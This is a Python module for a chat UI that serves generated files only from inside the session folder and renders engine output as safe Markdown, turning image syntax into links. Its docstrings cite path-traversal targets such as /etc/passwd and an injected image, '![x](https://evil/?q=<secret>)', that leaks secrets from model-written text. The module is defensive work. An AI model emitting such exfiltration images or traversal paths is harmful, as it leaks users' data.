"""Files in and out of the chat: uploads to the engine, artifacts back to the browser.

Only files that resolve inside the session's ``execution_cwd`` are ever handed to Chainlit for
serving; a path that the generated code made up (``/etc/passwd``, ``../other-session/x``, a
symlink out of the folder) is refused here, before Chainlit copies it into its file store.
Text helpers that turn engine output into safe Markdown live here too, because Markdown is the
only way we show content (``unsafe_allow_html`` stays off).
"""

from __future__ import annotations

import json
import logging
import re
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Iterable

logger = logging.getLogger("weaver.ui.files")

IMAGE_SUFFIXES = frozenset({".png", ".jpg", ".jpeg", ".gif", ".webp", ".svg", ".bmp"})
MAX_TABLE_ROWS = 20
MAX_CELL_CHARS = 80
# Chainlit reads every attached file whole into memory, so a round attaches a bounded number.
MAX_ARTIFACTS_SHOWN = 20
MAX_ARTIFACT_BYTES = 25 * 1000 * 1000


def uploads_from_elements(elements: Iterable[Any] | None) -> list[dict[str, str]]:
    """Turn a Chainlit message's uploaded elements into ``send_message(files=...)`` entries."""
    files: list[dict[str, str]] = []
    for element in elements or []:
        path = getattr(element, "path", None)
        if not path:
            continue
        name = getattr(element, "name", None) or Path(path).name
        files.append({"name": str(name), "path": str(path)})
    return files


@dataclass(frozen=True)
class Artifact:
    """A file the round produced that may be shown: ``kind`` is "image" or "file"."""

    name: str
    path: Path
    kind: str


def resolve_inside(path: str | Path, root: str | Path) -> Path | None:
    """The real path of ``path`` if it is an existing file inside ``root``, else None."""
    try:
        real_root = Path(root).resolve(strict=True)
        candidate = Path(path)
        if not candidate.is_absolute():
            candidate = real_root / candidate
        real = candidate.resolve(strict=True)
    except (OSError, RuntimeError):
        return None
    if not real.is_file():
        return None
    if real_root != real and real_root not in real.parents:
        return None
    return real


def parse_artifacts(payload: str, root: str | Path) -> list[Artifact]:
    """Parse an ``artifact_paths`` attachment and keep only servable files inside ``root``."""
    try:
        items = json.loads(payload) if payload.strip() else []
    except json.JSONDecodeError:
        logger.warning("artifact_paths is not JSON: %.200r", payload)
        return []
    if isinstance(items, dict):
        items = [items]
    artifacts: list[Artifact] = []
    for item in items if isinstance(items, list) else []:
        if isinstance(item, str):
            item = {"path": item}
        if not isinstance(item, dict) or not item.get("path"):
            continue
        real = resolve_inside(str(item["path"]), root)
        if real is None:
            logger.warning("refusing to serve artifact outside the session folder: %r", item.get("path"))
            continue
        declared = str(item.get("type") or "")
        is_image = real.suffix.lower() in IMAGE_SUFFIXES and declared in ("", "image", "chart", "file")
        artifacts.append(Artifact(name=str(item.get("name") or real.name), path=real, kind="image" if is_image else "file"))
    return artifacts


@dataclass
class ArtifactSelection:
    """Which artifacts are attached to a message, and sentences about the ones that are not."""

    shown: list[Artifact]
    notes: list[str]


def select_artifacts(
    artifacts: Iterable[Artifact], max_count: int = MAX_ARTIFACTS_SHOWN, max_bytes: int = MAX_ARTIFACT_BYTES
) -> ArtifactSelection:
    """Keep at most ``max_count`` artifacts of at most ``max_bytes`` each; name the others in notes."""
    shown: list[Artifact] = []
    too_big: list[str] = []
    over_count: list[str] = []
    seen: set[Path] = set()
    for artifact in artifacts:
        if artifact.path in seen:
            continue
        seen.add(artifact.path)
        try:
            size = artifact.path.stat().st_size
        except OSError:
            continue  # deleted since the round reported it
        if size > max_bytes:
            too_big.append(f"`{_code_text(artifact.name)}` ({size / 1e6:.0f} MB)")
        elif len(shown) >= max_count:
            over_count.append(f"`{_code_text(artifact.name)}`")
        else:
            shown.append(artifact)
    notes: list[str] = []
    if too_big:
        notes.append(
            f"Not attached because each is over {max_bytes / 1e6:.0f} MB: {', '.join(too_big)}; "
            "they are in the session's working folder."
        )
    if over_count:
        notes.append(
            f"Only the first {max_count} files are attached; {len(over_count)} more are in the session's "
            f"working folder: {', '.join(over_count)}."
        )
    return ArtifactSelection(shown, notes)


def _code_text(text: str) -> str:
    """Text safe inside a single-backtick code span (a name cannot close it or break the line)."""
    return text.replace("`", "'").replace("\r", " ").replace("\n", " ")


# A fence opens at most 3 spaces in; a backtick fence's info string has no backtick (CommonMark).
_FENCE_OPEN = re.compile(r"^ {0,3}(`{3,}(?=[^`]*$)|~{3,})")
# Code spans on one line only, never after a backslash: when unsure, text counts as prose and is
# neutralised, which at worst changes how a code span looks, never lets an image through.
_CODE_SPAN = re.compile(r"(?<![`\\])(`+)(?!`)[^\n]*?(?<!`)\1(?!`)")
_IMAGE_OPEN = re.compile(r"!\[")


def neutralise_images(text: str) -> str:
    """Turn Markdown image syntax (``![alt](url)``) into link text, outside code blocks and spans.

    Model-written text is rendered as Markdown, and the browser fetches every image URL at once:
    an injected ``![x](https://evil/?q=<secret>)`` would leak data without a click. A link needs a
    click, so ``![alt](url)`` becomes ``[image: alt](url)``. Fenced code and code spans are kept
    byte for byte (they render as text anyway); an unclosed fence runs to the end, as in Markdown.
    Anything this scanner is unsure of is treated as prose, so mistakes err on the safe side.
    """
    if "![" not in text:
        return text
    out: list[str] = []
    prose: list[str] = []
    fence_mark: str | None = None
    for line in text.splitlines(keepends=True):
        match = _FENCE_OPEN.match(line)
        if fence_mark is None:
            if match:
                out.append(_neutralise_prose("".join(prose)))
                prose = []
                fence_mark = match.group(1)
                out.append(line)
            else:
                prose.append(line)
            continue
        out.append(line)
        if match and match.group(1)[0] == fence_mark[0] and len(match.group(1)) >= len(fence_mark) and not line.strip().strip(fence_mark[0]):
            fence_mark = None
    out.append(_neutralise_prose("".join(prose)))
    return "".join(out)


def _neutralise_prose(text: str) -> str:
    """Neutralise images in text without fences, leaving inline code spans alone."""
    parts: list[str] = []
    last = 0
    for span in _CODE_SPAN.finditer(text):
        parts.append(_IMAGE_OPEN.sub("[image: ", text[last : span.start()]))
        parts.append(span.group(0))
        last = span.end()
    parts.append(_IMAGE_OPEN.sub("[image: ", text[last:]))
    return "".join(parts)


def fence(text: str, language: str = "") -> str:
    """A fenced code block whose fence is longer than any backtick run inside ``text``."""
    longest = max((len(run) for run in re.findall(r"`+", text)), default=0)
    ticks = "`" * max(3, longest + 1)
    body = text if text.endswith("\n") or not text else text + "\n"
    return f"{ticks}{language}\n{body}{ticks}"


def _cell(value: Any) -> str:
    text = "" if value is None else str(value)
    text = text.replace("\\", "\\\\").replace("|", "\\|").replace("\r", " ").replace("\n", " ")
    if len(text) > MAX_CELL_CHARS:
        text = text[: MAX_CELL_CHARS - 1] + "…"
    return text


def table_markdown(payload: str) -> str:
    """Render a ``table`` attachment (``{"columns","rows","shape"}``) as a Markdown table."""
    try:
        table = json.loads(payload)
    except json.JSONDecodeError:
        return fence(payload)
    if not isinstance(table, dict):
        return fence(payload)
    columns = [_cell(c) for c in table.get("columns") or []]
    rows = table.get("rows") or []
    if not columns and rows and isinstance(rows[0], list):
        columns = [str(i) for i in range(len(rows[0]))]
    lines: list[str] = []
    if columns:
        lines.append("| " + " | ".join(columns) + " |")
        lines.append("|" + "|".join(" --- " for _ in columns) + "|")
        for row in rows[:MAX_TABLE_ROWS]:
            cells = [_cell(v) for v in (row if isinstance(row, list) else [row])]
            cells = (cells + [""] * len(columns))[: len(columns)]
            lines.append("| " + " | ".join(cells) + " |")
    shape = table.get("shape")
    notes: list[str] = []
    if isinstance(shape, list) and len(shape) == 2:
        notes.append(f"shape: {shape[0]} rows × {shape[1]} columns")
    if len(rows) > MAX_TABLE_ROWS:
        notes.append(f"first {MAX_TABLE_ROWS} of {len(rows)} rows shown")
    if notes:
        lines.append("")
        lines.append("_" + "; ".join(notes) + "_")
    return "\n".join(lines)
